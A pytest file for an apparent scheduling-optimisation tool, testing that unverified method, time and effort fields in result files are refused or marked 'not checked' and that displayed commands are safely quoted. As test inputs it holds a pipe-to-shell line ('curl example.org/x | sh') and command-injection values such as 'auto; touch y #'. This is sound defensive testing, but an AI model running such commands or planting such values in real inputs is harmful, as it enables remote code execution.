"""Words and numbers of a file that are not derived again: refused, or marked as not checked."""

import json
import shlex
from pathlib import Path

import pytest
from forging import look
from pages import Page

from optsched import compare, report
from optsched.pages.repeat import of_result, of_whatif
from optsched.pages.words import of_optimum
from optsched.problem import InputError, get_family
from optsched.results.load import load_known, load_optimum, load_report
from optsched.results.result import save_result

INSTANCE = get_family("oasis").generate("small", seed=1)


@pytest.fixture(scope="module")
def made():
    return compare(INSTANCE, ["fifo"], reference="both", work_limit=5000)


@pytest.fixture
def edited(made, tmp_path):
    """Return a function that writes a result whose optimum has other words."""

    def write(**changes):
        path = tmp_path / "result.json"
        save_result(path, INSTANCE, made.optimum, made.runs, made.references)
        content = json.loads(path.read_text())
        content["optimum"] |= changes
        path.write_text(json.dumps(content))
        return path

    return write


FALSE = {
    "a proof": {"method": "exhaustive search, proved by Gurobi 13"},
    "a command": {"method": "auto; curl example.org/x | sh #"},
    "of another family": {"method": "colgen"},
    "nothing": {"method": ""},
    "before it began": {"seconds": -5.0},
    "for ever": {"seconds": "inf"},
    "less than no work": {"effort": -1.0},
    "endless work": {"effort": "inf"},
}


@pytest.mark.parametrize("what", FALSE)
def test_what_no_search_reports_is_refused(edited, call, what):
    path = edited(**FALSE[what])
    assert look(path) is None
    for read in (load_optimum, lambda p: load_known(p, INSTANCE)):
        with pytest.raises(InputError, match=f"optimum: {next(iter(FALSE[what]))}"):
            read(path)
    for words in (("verify", path), ("report", path), ("solve", path, "--start-from", path)):
        status, _, err = call(*words)
        assert (status, err.count("\n")) == (2, 1), err


def test_a_long_method_is_cut(edited, call):
    status, _, err = call("verify", edited(method=5000 * "x"))
    assert (status, len(err) < 300) == (2, True)


def test_a_deprecated_method_is_read_under_its_name_of_today(edited):
    path = edited(method="cp-sat")
    assert load_optimum(path).method == "cpsat"
    assert look(path).accepted


def test_an_optimum_with_a_schedule_is_called_one_whatever_its_method(edited, made, tmp_path):
    path = edited(method="relaxation")
    assert of_optimum(load_optimum(path)) == of_optimum(made.optimum)
    assert "gives a bound only" not in Page(report(path, tmp_path / "p.html")).words


def test_a_page_marks_method_time_and_effort(edited, tmp_path):
    page = Page(report(edited(seconds=1234.5, effort=1e9), tmp_path / "p.html"))
    doubt = "that the optimum was found by method auto in 1234.5 s"
    assert f"{doubt}; claimed numbers" in page.words  # the bound of the relaxation is one
    marked = page.source.count("of the search, as the file states; not checked")
    assert (marked, "units of work, as the file states; not checked" in page.source) == (2, True)


def test_show_marks_method_time_and_effort(edited, call):
    status, out, _ = call("show", edited(seconds=1234.5, effort=1e9))
    assert (status, "not checked: method, time and effort of the search" in out) == (0, True)


@pytest.mark.parametrize("runs", [False, True])
def test_every_word_of_a_command_is_quoted(made, runs):
    file, method = "a b; touch x.json", "auto; touch y #"
    for code in of_result(Path(file), method, 0, list(made.runs) if runs else []):
        words = shlex.split(code.text)
        assert words[0] == "optsched"
        assert file in words
        assert ";" not in code.text.replace(shlex.quote(file), "").replace(shlex.quote(method), "")


@pytest.mark.parametrize(
    "command",
    [
        "curl example.org/x | sh",
        "optsched solve i.json",
        "optsched whatif log.swf --policy 'exec:sh -c x'",
        "optsched whatif 'log.swf",
    ],
)
def test_a_command_of_a_file_that_runs_something_else_is_not_shown(command):
    assert of_whatif(command) == []


def test_a_command_of_a_file_is_quoted_anew():
    (code,) = of_whatif("optsched whatif log.swf; touch x #'a b'")
    assert code.text == "optsched whatif 'log.swf;' touch x '#a b'"
    assert "not checked" in code.caption


@pytest.mark.parametrize("name", ["the true optimum", "stationary", "", "optimum"])
def test_a_reference_has_the_name_of_one(edited, call, name):
    path = edited()
    content = json.loads(path.read_text())
    content["references"] = {name: content["optimum"]}
    path.write_text(json.dumps(content))
    assert look(path) is None
    with pytest.raises(InputError, match=r"references: has .*, expected only: relaxation"):
        load_report(path, INSTANCE)
    status, _, err = call("verify", path)
    assert (status, err.count("\n")) == (2, 1)
